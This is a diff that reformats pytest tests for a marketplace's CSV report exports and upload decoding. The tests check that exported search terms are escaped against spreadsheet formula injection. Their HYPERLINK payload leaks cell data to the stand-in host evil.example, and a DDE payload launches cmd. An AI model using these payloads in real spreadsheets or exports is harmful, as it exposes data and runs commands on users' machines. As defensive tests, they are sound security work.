@@ -12,8 +12,14 @@ from marketplace import csvfiles
 from marketplace.reports import controllers as report_exports
 
 ROOT = pathlib.Path(__file__).resolve().parents[1]
-HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-           "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.mark.unit
@@ -43,7 +49,9 @@ def test_no_export_writes_csv_around_the_one_writer():
 @pytest.mark.unit
 def test_the_search_misses_export_carries_no_formula():
     """Search terms are typed by anonymous visitors and reach the operators' reports."""
-    body = report_exports.to_csv({"headers": ["区", "搜索词", "次数"], "rows": [["朝阳区", text, 3] for text in HOSTILE]})
+    body = report_exports.to_csv(
+        {"headers": ["区", "搜索词", "次数"], "rows": [["朝阳区", text, 3] for text in HOSTILE]}
+    )
     assert body.startswith("\ufeff".encode())
     rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
     assert [row[1] for row in rows[1:]] == ["'" + text for text in HOSTILE]
@@ -51,11 +59,14 @@ def test_the_search_misses_export_carries_no_formula():
 
 
 @pytest.mark.unit
-@pytest.mark.parametrize("content, text", [
-    ("姓名,电话\n".encode(), "姓名,电话\n"),
-    (b"\xef\xbb\xbf" + "姓名,电话\n".encode(), "姓名,电话\n"),
-    ("姓名,电话\n".encode("gb18030"), "姓名,电话\n"),
-])
+@pytest.mark.parametrize(
+    "content, text",
+    [
+        ("姓名,电话\n".encode(), "姓名,电话\n"),
+        (b"\xef\xbb\xbf" + "姓名,电话\n".encode(), "姓名,电话\n"),
+        ("姓名,电话\n".encode("gb18030"), "姓名,电话\n"),
+    ],
+)
 def test_uploads_in_utf8_with_or_without_a_bom_and_gb18030_are_read(content, text):
     assert csvfiles.decode_upload(content, max_bytes=1024) == text
 
